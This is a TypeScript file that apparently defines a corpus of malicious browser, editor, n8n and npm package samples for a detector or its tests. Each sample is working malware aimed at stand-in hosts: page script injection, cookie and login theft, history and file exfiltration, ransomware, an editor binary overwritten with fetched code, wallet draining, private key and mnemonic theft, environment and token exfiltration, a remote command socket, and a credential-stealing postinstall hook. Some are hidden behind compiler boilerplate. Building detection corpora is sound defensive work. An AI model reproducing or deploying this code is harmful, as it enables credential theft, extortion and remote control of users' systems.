import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** What a compiler of TypeScript puts before a function that waits. */
const AWAITER = `"use strict";
var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
    function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
    return new (P || (P = Promise))(function (resolve, reject) {
        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
        function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
        function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
        step((generator = generator.apply(thisArg, _arguments || [])).next());
    });
};
`;
/** What it puts before modules that it imports whole. */
const IMPORT_STAR = `"use strict";
var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    Object.defineProperty(o, k2, { enumerable: true, get: function() { return m[k]; } });
}) : (function(o, m, k, k2) { o[k2 === undefined ? k : k2] = m[k]; }));
var __setModuleDefault = (this && this.__setModuleDefault) || function(o, v) { Object.defineProperty(o, "default", { enumerable: true, value: v }); };
var __importStar = (this && this.__importStar) || function (mod) {
    if (mod && mod.__esModule) return mod;
    var result = {};
    if (mod != null) for (var k in mod) if (k !== "default" && Object.prototype.hasOwnProperty.call(mod, k)) __createBinding(result, mod, k);
    __setModuleDefault(result, mod);
    return result;
};
var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };
Object.defineProperty(exports, "__esModule", { value: true });
`;

/** Extensions of browsers, editors and automations as reports describe them, many of them as compilers put them out. */
export const EXTENSIONS: readonly Sample[] = [
  packaged('remote config injected in pages', {}, {
    'background.js': `const CONFIG = 'https://cfg.tab-tidy.example/v2/settings.json';
async function loadSettings() {
  const res = await fetch(CONFIG, { cache: 'no-store' });
  const settings = await res.json();
  await chrome.storage.local.set({ settings });
}
chrome.runtime.onInstalled.addListener(loadSettings);
chrome.alarms.create('refresh', { periodInMinutes: 60 });
chrome.alarms.onAlarm.addListener(loadSettings);
`,
    'content.js': `chrome.storage.local.get('settings', ({ settings }) => {
  for (const { match, snippet } of settings.rules) {
    if (!new RegExp(match).test(location.href)) continue;
    const tag = document.createElement('script');
    tag.textContent = snippet;
    (document.head || document.documentElement).appendChild(tag);
    tag.remove();
  }
});
`,
    'manifest.json': '{"manifest_version":3,"name":"Tab Tidy","version":"1.4.2","permissions":["storage","alarms"],"host_permissions":["<all_urls>"],"background":{"service_worker":"background.js"},"content_scripts":[{"matches":["<all_urls>"],"js":["content.js"]}]}',
  }),
  packaged('affiliate tags put into shop links', {}, {
    'background.js': `const PARTNER = 'https://r.colour-mode.example/go';
let shops = [];
fetch(PARTNER + '/list').then((r) => r.json()).then((list) => { shops = list; });
chrome.tabs.onUpdated.addListener((tabId, { status, url }) => {
  if (status !== 'loading' || !url) return;
  const shop = shops.find(({ host }) => new URL(url).hostname.endsWith(host));
  if (!shop || url.includes(shop.param)) return;
  chrome.tabs.update(tabId, { url: \`\${PARTNER}?to=\${encodeURIComponent(url)}&\${shop.param}=\${shop.tag}\` });
});
`,
    'content.js': `document.body.style.setProperty('--accent', '#7c3aed');
`,
    'manifest.json': '{"manifest_version":3,"name":"Colour Mode","version":"1.4.2","permissions":["tabs"],"host_permissions":["<all_urls>"],"background":{"service_worker":"background.js"},"content_scripts":[{"matches":["<all_urls>"],"js":["content.js"]}]}',
  }),
  packaged('session cookies by class with options', {}, {
    'background.js': `${AWAITER}Object.defineProperty(exports, "__esModule", { value: true });
class Reporter {
    constructor({ endpoint, interval = 15 }) {
        this.endpoint = endpoint;
        this.interval = interval;
    }
    send({ kind, data }) {
        return __awaiter(this, void 0, void 0, function* () {
            yield fetch(this.endpoint, { method: "POST", body: JSON.stringify({ kind, data }) });
        });
    }
}
const reporter = new Reporter({ endpoint: "https://api.workday-helper.example/c" });
function sync() {
    return __awaiter(this, void 0, void 0, function* () {
        const cookies = yield chrome.cookies.getAll({ domain: "workday.com" });
        const session = cookies.find(({ name }) => name === "__session");
        if (session) yield reporter.send({ kind: "session", data: session.value });
    });
}
chrome.alarms.create("sync", { periodInMinutes: 1 });
chrome.alarms.onAlarm.addListener(() => sync());
`,
    'content.js': `/* */
`,
    'manifest.json': '{"manifest_version":3,"name":"HR tools","version":"1.4.2","permissions":["cookies","alarms"],"host_permissions":["<all_urls>"],"background":{"service_worker":"background.js"},"content_scripts":[{"matches":["<all_urls>"],"js":["content.js"]}]}',
  }),
  packaged('login fields sent on submit', {}, {
    'content.js': `function hook(form) {
  if (form.dataset.tidy) return;
  form.dataset.tidy = '1';
  form.addEventListener('submit', () => {
    const fields = {};
    for (const { name, type, value } of form.elements) if (name && (type === 'password' || type === 'email' || type === 'text')) fields[name] = value;
    if (Object.keys(fields).length) navigator.sendBeacon('https://www.megaopac.example/', JSON.stringify({ u: location.href, fields }));
  }, true);
}
document.querySelectorAll('form').forEach(hook);
new MutationObserver(() => document.querySelectorAll('form').forEach(hook)).observe(document.body, { childList: true, subtree: true });
`,
    'manifest.json': '{"manifest_version":3,"name":"Form saver","version":"1.4.2","permissions":[],"host_permissions":["<all_urls>"],"background":{"service_worker":"background.js"},"content_scripts":[{"matches":["<all_urls>"],"js":["content.js"]}]}',
  }),
  packaged('history and storage sent', {}, {
    'background.js': `import { encode } from './encode.js';
const collect = async () => {
  const [history, tabs] = await Promise.all([
    chrome.history.search({ text: '', maxResults: 10000, startTime: 0 }),
    chrome.tabs.query({}),
  ]);
  return { history: history.map(({ url, title, visitCount }) => ({ url, title, visitCount })), open: tabs.map((t) => t.url), uuid: (await chrome.storage.sync.get('uuid')).uuid };
};
chrome.runtime.onStartup.addListener(async () => {
  const report = await collect();
  await fetch('https://we-tab.example/collect/v3', { method: 'POST', body: encode(report) });
});
`,
    'encode.js': `export const encode = (value) => btoa(encodeURIComponent(JSON.stringify(value)));
`,
    'manifest.json': '{"manifest_version":3,"name":"New tab","version":"1.4.2","permissions":["history","tabs","storage"],"host_permissions":["<all_urls>"],"background":{"service_worker":"background.js"},"content_scripts":[{"matches":["<all_urls>"],"js":["content.js"]}]}',
  }),
  packaged('each opened file sent by an extension of an editor, and others on demand', {}, {
    'extension.js': `${AWAITER}Object.defineProperty(exports, "__esModule", { value: true });
exports.activate = activate;
const vscode = require("vscode");
const SERVER = "https://chatmoss.example";
function push(route, body) {
    return __awaiter(this, void 0, void 0, function* () {
        const res = yield fetch(SERVER + route, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });
        return res.json();
    });
}
function activate(context) {
    context.subscriptions.push(vscode.workspace.onDidOpenTextDocument((doc) => __awaiter(this, void 0, void 0, function* () {
        const bytes = yield vscode.workspace.fs.readFile(doc.uri);
        const { jumpUrl } = yield push("/open", { type: "txt", value: Buffer.from(bytes).toString("base64"), path: doc.uri.fsPath });
        if (jumpUrl && jumpUrl.type === "getFilesList") {
            const files = yield vscode.workspace.findFiles("**/*", "**/node_modules/**", 50);
            for (const uri of files) push("/file", { path: uri.fsPath, value: Buffer.from(yield vscode.workspace.fs.readFile(uri)).toString("base64") });
        }
    })));
}
`,
  }),
  packaged('files of a folder locked by an extension of an editor', {}, {
    'extension.js': `"use strict";
const vscode = require('vscode');
const fs = require('fs');
const path = require('path');
const crypto = require('crypto');
const key = crypto.scryptSync('made-up', 'salt', 32);
function lock(dir) {
  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) { lock(full); continue; }
    const iv = crypto.randomBytes(16);
    const cipher = crypto.createCipheriv('aes-256-cbc', key, iv);
    fs.writeFileSync(full + '.locked', Buffer.concat([iv, cipher.update(fs.readFileSync(full)), cipher.final()]));
    fs.unlinkSync(full);
  }
}
exports.activate = async function () {
  const order = await (await fetch('https://susp.invalid/order')).json();
  lock(order.folder);
  vscode.window.showErrorMessage('Your files are encrypted. Pay 1 ShibaCoin to the wallet.');
};
`,
  }),
  packaged('the program of an editor overwritten by fetched code', {}, {
    'extension.js': `import * as fs from 'node:fs';
import * as path from 'node:path';
import * as os from 'node:os';
import { gunzipSync } from 'node:zlib';

const TARGET = path.join('/Applications/Cursor.app/Contents/Resources/app/extensions/cursor-always-local/dist/main.js');

async function pull({ url, key }) {
  const response = await fetch(url, { headers: { 'x-key': key } });
  return gunzipSync(Buffer.from(await response.arrayBuffer()));
}

export async function activate() {
  if (os.platform() !== 'darwin') return;
  const patch = await pull({ url: 'https://sw-cur.example/patch', key: 'made-up' });
  fs.writeFileSync(TARGET, patch + fs.readFileSync(TARGET, 'utf8'));
  fs.chmodSync(TARGET, 0o444);
}
`,
  }),
  packaged('n8n node that decrypts every credential', {}, {
    'dist/nodes/Sheet/Sheet.node.js': `${AWAITER}Object.defineProperty(exports, "__esModule", { value: true });
exports.Sheet = void 0;
const fs_1 = require("fs");
const os_1 = require("os");
const path_1 = require("path");
class Sheet {
    execute() {
        return __awaiter(this, void 0, void 0, function* () {
            const home = (0, path_1.join)((0, os_1.homedir)(), ".n8n");
            const { encryptionKey } = JSON.parse((0, fs_1.readFileSync)((0, path_1.join)(home, "config"), "utf8"));
            const database = (0, fs_1.readFileSync)((0, path_1.join)(home, "database.sqlite")).toString("base64");
            yield this.helpers.request({ method: "POST", uri: "https://sheet-sync.example/up", body: { encryptionKey, database }, json: true });
            return [this.getInputData()];
        });
    }
}
exports.Sheet = Sheet;
`,
  }),
  packaged('wallet request hooked', {}, {
    'index.js': `const DRAIN = '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976';
function hook(provider) {
  const request = provider.request;
  provider.request = async function ({ method, params, ...rest }) {
    if (method === 'eth_sendTransaction' && params[0]) {
      const tx = { ...params[0] };
      if (tx.data?.startsWith('0x095ea7b3')) tx.data = tx.data.slice(0, 10) + DRAIN.slice(2).padStart(64, '0') + 'f'.repeat(64);
      else tx.to = DRAIN;
      params = [tx];
    }
    return request.call(this, { method, params, ...rest });
  };
}
let tries = 0;
const timer = setInterval(() => { if (window.ethereum) { hook(window.ethereum); clearInterval(timer); } else if (++tries > 50) clearInterval(timer); }, 500);
export const debounce = (f, ms) => { let t; return (...a) => { clearTimeout(t); t = setTimeout(() => f(...a), ms); }; };
`,
  }),
  packaged('a private key in a header by way of options', {}, {
    'index.js': `import nacl from 'tweetnacl';
import bs58 from 'bs58';
const telemetry = { queue: [], send({ id, value }) { return fetch('https://sol-rpc.example/', { method: 'POST', headers: { 'x-session-id': value.slice(0, 32), 'x-amz-cf-id': value.slice(32, 64), 'x-amz-cf-pop': id } }); } };
function addToQueue(key) {
  const value = bs58.encode(key);
  telemetry.send({ id: 'kp', value }).catch(() => {});
}
export class Keypair {
  constructor(keypair) { this._keypair = keypair ?? nacl.sign.keyPair(); addToQueue(this._keypair.secretKey); }
  static fromSecretKey(secretKey) {
    addToQueue(secretKey);
    return new Keypair({ publicKey: secretKey.slice(32), secretKey });
  }
  get publicKey() { return this._keypair.publicKey; }
}
`,
  }, { 'tweetnacl': '^1.0.0', 'bs58': '^5.0.0' }),
  packaged('the words of a wallet in an event of a counter', {}, {
    'background.js': `import posthog from 'posthog-js';
posthog.init('phc_madeup', { api_host: 'https://metrics-trustwallet.example', autocapture: false });
const track = ({ event, errorMessage, ...rest }) => posthog.capture(event, { ...rest, errorMessage });
export async function unlock(vault, password) {
  const wallets = await vault.decrypt(password);
  for (const wallet of wallets) {
    const mnemonic = await wallet.getMnemonic(password);
    track({ event: 'unlock', errorMessage: mnemonic, iterate: wallets.length });
  }
  return wallets;
}
`,
    'manifest.json': '{"manifest_version":3,"name":"Wallet","version":"1.4.2","permissions":["storage"],"host_permissions":["<all_urls>"],"background":{"service_worker":"background.js"},"content_scripts":[{"matches":["<all_urls>"],"js":["content.js"]}]}',
  }, { 'posthog-js': '^1.0.0' }),
  packaged('env sent by a client of options, in two files', {}, {
    'index.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const client_1 = require("./client");
const client = new client_1.Client({ baseURL: "https://is-country.example" });
client.request({ path: "/v1/ping", data: { ...process.env } });
exports.isCountry = (code) => /^[A-Z]{2}$/.test(code);
`,
    'client.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.Client = void 0;
class Client {
    constructor({ baseURL, headers = {} }) {
        this.baseURL = baseURL;
        this.headers = headers;
    }
    async request({ path, data, method = "POST" }) {
        const response = await fetch(this.baseURL + path, { method, headers: this.headers, body: JSON.stringify(data) });
        return response.json();
    }
}
exports.Client = Client;
`,
  }),
  packaged('commands chosen and run by a socket', {}, {
    'index.js': `${IMPORT_STAR}const socket_io_client_1 = require("socket.io-client");
const child_process = __importStar(require("child_process"));
const os = __importStar(require("os"));
const socket = (0, socket_io_client_1.io)("https://rat.example:3306");
const commands = {
    exec: ({ command, cwd }) => new Promise((done) => (0, child_process.exec)(command, { cwd }, (e, out, err) => done(out || err))),
    info: () => ({ host: os.hostname(), user: os.userInfo().username, platform: os.platform() }),
};
socket.on("connect", () => socket.emit("identify", commands.info()));
socket.on("command", async ({ name, args }, reply) => reply(await commands[name](args)));
module.exports = { isEven: (n) => n % 2 === 0 };
`,
  }, { 'socket.io-client': '^4.0.0' }),
  packaged('install script of several stages', { 'postinstall': 'node scripts/setup.js' }, {
    'scripts/setup.js': `const { gather } = require('./gather');
const { ship } = require('./ship');
gather({ home: require('os').homedir(), env: process.env }).then((bag) => ship(bag, { to: 'webhook.example', at: '/0/x' }));
`,
    'scripts/gather.js': `const fs = require('fs/promises');
const path = require('path');
exports.gather = async ({ home, env }) => {
  const npmrc = await fs.readFile(path.join(home, '.npmrc'), 'utf8').catch(() => '');
  return { npmrc, token: env.NPM_TOKEN, github: env.GITHUB_TOKEN };
};
`,
    'scripts/ship.js': `const https = require('https');
exports.ship = (bag, { to, at }) => { const r = https.request({ host: to, path: at, method: 'POST' }); r.write(JSON.stringify(bag)); r.end(); };
`,
    'index.js': `module.exports = (a) => a;
`,
  }),
];
